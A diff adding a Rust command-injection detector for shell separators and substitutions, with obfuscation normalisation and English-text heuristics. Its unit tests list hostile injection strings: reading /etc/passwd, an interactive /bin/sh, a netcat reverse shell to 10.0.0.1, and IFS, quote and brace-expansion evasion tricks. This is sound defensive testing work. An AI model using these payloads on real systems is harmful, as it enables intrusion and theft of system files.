@@ -1,0 +1,351 @@
+//! Command injection, judged by system internals: a value is an injection
+//! when a shell would run a command from it *on this host*.
+//!
+//! That takes a shell separator or substitution (`;`, `|`, `||`, `&`, `&&`,
+//! newline, backticks, `$(...)`) followed by a word that is an executable
+//! found in `PATH` when the process started, an absolute path to one, or a
+//! shell builtin. `${IFS}`, quotes inside the word (`c'a't`), backslashes
+//! (`c\at`), empty expansions (`c$@at`) and brace expansion (`{cat,/etc/passwd}`)
+//! are undone first, as the shell would.
+//!
+//! Free text uses `;`, `&` and line breaks too ("Tom & Jerry; cats and dogs"),
+//! and many English words are also commands (`more`, `time`, `test`). So a
+//! separator counts only when the command word is followed by the end of the
+//! value, another separator, or an argument shaped like a shell argument (an
+//! option, a path, a redirection, a number after `;`/`|`/`&`); a substitution
+//! (`` ` `` or `$(`) needs only the command word. Common English words that
+//! are also commands need such an argument even at the end of the value.
+
+use std::collections::HashSet;
+use std::sync::OnceLock;
+
+/// Builtins of POSIX sh, bash and busybox that are not files in `PATH`.
+const BUILTINS: &[&str] = &[
+    "alias", "bg", "bind", "builtin", "cd", "command", "declare", "dirs", "disown", "echo",
+    "enable", "eval", "exec", "exit", "export", "fc", "fg", "getopts", "hash", "history", "jobs",
+    "let", "local", "logout", "popd", "printf", "pushd", "pwd", "readonly", "return", "set",
+    "shopt", "source", "suspend", "times", "trap", "typeset", "ulimit", "umask", "unalias",
+    "unset",
+];
+
+/// Commands that are also everyday English words: they need a shell-shaped
+/// argument to count, even at the end of a value ("ok; yes", "and more").
+const ENGLISH: &[&str] = &[
+    "at", "cut", "date", "do", "done", "echo", "exit", "false", "file", "find", "free", "help",
+    "join", "kill", "last", "less", "link", "look", "make", "man", "more", "nice", "paste",
+    "print", "read", "see", "set", "shift", "sort", "split", "stat", "stop", "talk", "test",
+    "time", "top", "true", "type", "wait", "watch", "which", "who", "write", "yes", "zip",
+];
+
+/// Directories whose files are executables even when not in `PATH`.
+const BIN_DIRS: &[&str] = &[
+    "/bin",
+    "/sbin",
+    "/usr/bin",
+    "/usr/sbin",
+    "/usr/local/bin",
+    "/usr/local/sbin",
+];
+
+/// The command-injection detector, holding this host's command names.
+#[derive(Debug)]
+pub struct CommandInjection {
+    commands: HashSet<String>,
+    bin_dirs: Vec<String>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Sep {
+    /// `;`, `|`, `||`, `&`, `&&`.
+    Chain,
+    /// A line break.
+    Newline,
+    /// `` ` `` or `$(`.
+    Substitution,
+}
+
+impl CommandInjection {
+    /// The detector for this host: `PATH` is scanned once per process.
+    pub fn system() -> &'static CommandInjection {
+        static SYSTEM: OnceLock<CommandInjection> = OnceLock::new();
+        SYSTEM.get_or_init(|| {
+            let path = std::env::var_os("PATH").unwrap_or_default();
+            let dirs: Vec<String> = std::env::split_paths(&path)
+                .map(|p| p.to_string_lossy().into_owned())
+                .chain(BIN_DIRS.iter().map(|s| s.to_string()))
+                .collect();
+            let mut names = Vec::new();
+            for d in &dirs {
+                let Ok(rd) = std::fs::read_dir(d) else {
+                    continue;
+                };
+                for e in rd.flatten() {
+                    if is_executable(&e) {
+                        names.push(e.file_name().to_string_lossy().into_owned());
+                    }
+                }
+            }
+            Self::with_commands(names, dirs)
+        })
+    }
+
+    /// A detector with an explicit command list (tests, other hosts).
+    pub fn with_commands(names: impl IntoIterator<Item = String>, bin_dirs: Vec<String>) -> Self {
+        let mut commands: HashSet<String> =
+            names.into_iter().filter(|n| is_command_name(n)).collect();
+        commands.extend(BUILTINS.iter().map(|s| s.to_string()));
+        CommandInjection { commands, bin_dirs }
+    }
+
+    /// Whether `name` is a command on this host.
+    pub fn is_command(&self, name: &str) -> bool {
+        self.commands.contains(name)
+    }
+
+    /// Judges a decoded value; returns true when it would run a command.
+    pub fn is_injection(&self, value: &str) -> bool {
+        let b = value.as_bytes();
+        // Cheap pre-filter: no separator, no substitution, nothing to do.
+        if !b
+            .iter()
+            .any(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'$'))
+        {
+            return false;
+        }
+        let view = shell_view(value);
+        let s = view.as_str();
+        let bytes = s.as_bytes();
+        let mut i = 0;
+        while i < bytes.len() {
+            let (sep, len) = match bytes[i] {
+                b';' => (Sep::Chain, 1),
+                b'|' | b'&' => (
+                    Sep::Chain,
+                    if bytes.get(i + 1) == Some(&bytes[i]) {
+                        2
+                    } else {
+                        1
+                    },
+                ),
+                b'\n' | b'\r' => (Sep::Newline, 1),
+                b'`' => (Sep::Substitution, 1),
+                b'$' if bytes.get(i + 1) == Some(&b'(') => (Sep::Substitution, 2),
+                _ => {
+                    i += 1;
+                    continue;
+                }
+            };
+            if self.command_follows(&s[i + len..], sep) {
+                return true;
+            }
+            i += len;
+        }
+        false
+    }
+
+    fn command_follows(&self, rest: &str, sep: Sep) -> bool {
+        let rest = rest.trim_start_matches([' ', '\t', '\n', '\r']);
+        let word_end = rest
+            .find(|c: char| {
+                c.is_whitespace() || matches!(c, ';' | '|' | '&' | '<' | '>' | '(' | ')' | '`')
+            })
+            .unwrap_or(rest.len());
+        let raw_word = &rest[..word_end];
+        let word = clean_word(raw_word);
+        if word.is_empty() {
+            return false;
+        }
+        let (is_cmd, english) = if word.starts_with('/') {
+            (self.is_absolute_command(&word), false)
+        } else {
+            (
+                self.commands.contains(word.as_str()),
+                ENGLISH.contains(&word.as_str()),
+            )
+        };
+        if !is_cmd {
+            return false;
+        }
+        if sep == Sep::Substitution {
+            return true;
+        }
+        let after = &rest[word_end..];
+        let arg = after.trim_start_matches([' ', '\t']);
+        let at_end = arg.is_empty() || arg.starts_with([';', '|', '&', '\n', '\r', ')', '`', '#']);
+        if at_end {
+            return !english;
+        }
+        let first = arg.chars().next().unwrap_or(' ');
+        let arg_word = arg.split_whitespace().next().unwrap_or("");
+        match first {
+            '-' | '/' | '~' | '$' | '<' | '>' | '.' | '\'' | '"' | '*' => true,
+            c if c.is_ascii_digit() => sep == Sep::Chain,
+            _ => arg_word.contains('/'),
+        }
+    }
+
+    fn is_absolute_command(&self, word: &str) -> bool {
+        let Some((dir, name)) = word.rsplit_once('/') else {
+            return false;
+        };
+        if name.is_empty() {
+            return false;
+        }
+        let dir = if dir.is_empty() { "/" } else { dir };
+        self.commands.contains(name) || self.bin_dirs.iter().any(|d| d == dir)
+    }
+}
+
+/// Undoes the shell's word-splitting tricks that hide separators and spaces.
+fn shell_view(value: &str) -> String {
+    let mut s = value
+        .replace("${IFS}", " ")
+        .replace("$IFS$9", " ")
+        .replace("$IFS", " ");
+    if s.contains("${IFS%") {
+        // ${IFS%??} and similar trimmed expansions still expand to blanks.
+        while let Some(i) = s.find("${IFS%") {
+            let end = s[i..].find('}').map(|j| i + j + 1).unwrap_or(s.len());
+            s.replace_range(i..end, " ");
+        }
+    }
+    s
+}
+
+/// Removes what the shell removes from a word before running it.
+fn clean_word(raw: &str) -> String {
+    let mut w = raw;
+    // {cat,/etc/passwd} runs `cat /etc/passwd`.
+    if let Some(inner) = w.strip_prefix('{') {
+        w = inner.split([',', '}']).next().unwrap_or("");
+    }
+    let mut out = String::with_capacity(w.len());
+    let mut chars = w.chars().peekable();
+    while let Some(c) = chars.next() {
+        match c {
+            '\'' | '"' | '\\' => {}
+            '$' => match chars.peek() {
+                // $@, $*, $1..$9 expand to nothing in an injected context.
+                Some('@' | '*') | Some('0'..='9') => {
+                    chars.next();
+                }
+                Some('{') => {
+                    // ${x} of an unset variable: nothing.
+                    for c in chars.by_ref() {
+                        if c == '}' {
+                            break;
+                        }
+                    }
+                }
+                _ => out.push(c),
+            },
+            _ => out.push(c),
+        }
+    }
+    out
+}
+
+fn is_command_name(n: &str) -> bool {
+    !n.is_empty()
+        && n.len() <= 64
+        && n.bytes().next().is_some_and(|b| b.is_ascii_alphanumeric())
+        && n.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'+'))
+}
+
+#[cfg(unix)]
+fn is_executable(e: &std::fs::DirEntry) -> bool {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::metadata(e.path()).is_ok_and(|m| m.is_file() && m.permissions().mode() & 0o111 != 0)
+}
+
+#[cfg(not(unix))]
+fn is_executable(e: &std::fs::DirEntry) -> bool {
+    let n = e.file_name().to_string_lossy().to_ascii_lowercase();
+    std::fs::metadata(e.path()).is_ok_and(|m| m.is_file())
+        && [".exe", ".bat", ".cmd", ".com", ".ps1"]
+            .iter()
+            .any(|x| n.ends_with(x))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn det() -> CommandInjection {
+        let names = [
+            "cat", "id", "whoami", "uname", "ls", "sleep", "ping", "nc", "sh", "bash", "wget",
+            "curl", "more", "test", "yes", "time", "w",
+        ];
+        CommandInjection::with_commands(
+            names.iter().map(|s| s.to_string()),
+            vec!["/usr/bin".into()],
+        )
+    }
+
+    #[test]
+    fn issue_examples_are_caught() {
+        let d = det();
+        for v in [
+            "; cat /etc/passwd",
+            "| id",
+            "$(whoami)",
+            "`uname -a`",
+            "\nid",
+            ";${IFS}cat${IFS}/etc/passwd",
+            "x;id;",
+            "127.0.0.1 && ping -c 3 10.0.0.1",
+            "a || sleep 5",
+            "1;c'a't /etc/passwd",
+            "1;c\\at /etc/passwd",
+            "1;c$@at /etc/passwd",
+            ";{cat,/etc/passwd}",
+            "| /bin/sh -i",
+            "; /usr/bin/python3 -c x",
+            "x | nc 10.0.0.1 4444 -e /bin/sh",
+            "foo;w",
+            "a\r\nid",
+            "; whoami # comment",
+            "1${IFS%??}&&${IFS%??}id",
+            "x; echo $HOME",
+        ] {
+            assert!(d.is_injection(v), "missed {v:?}");
+        }
+    }
+
+    #[test]
+    fn benign_text_is_not() {
+        let d = det();
+        for v in [
+            "Tom & Jerry; cats and dogs",
+            "a|b",
+            "$(5)",
+            "price: $(5.00)",
+            "rock & roll",
+            "AT&T; R&D",
+            "I want more; more please",
+            "ok; yes",
+            "Hello\nwhich one is better?",
+            "Thanks!\ntest it tomorrow",
+            "see you at 5; time flies",
+            "costs $5 | $10",
+            "echo of the past; echoes",
+            "id",
+            "cat /etc/passwd",
+            "",
+            "$",
+            "{,}",
+        ] {
+            assert!(!d.is_injection(v), "false alarm on {v:?}");
+        }
+    }
+
+    #[test]
+    fn system_scan_finds_basic_commands() {
+        let s = CommandInjection::system();
+        assert!(s.is_command("echo"));
+        #[cfg(unix)]
+        assert!(s.is_command("sh"), "no `sh` found in PATH");
+        assert!(s.is_injection("; cat /etc/passwd"));
+    }
+}
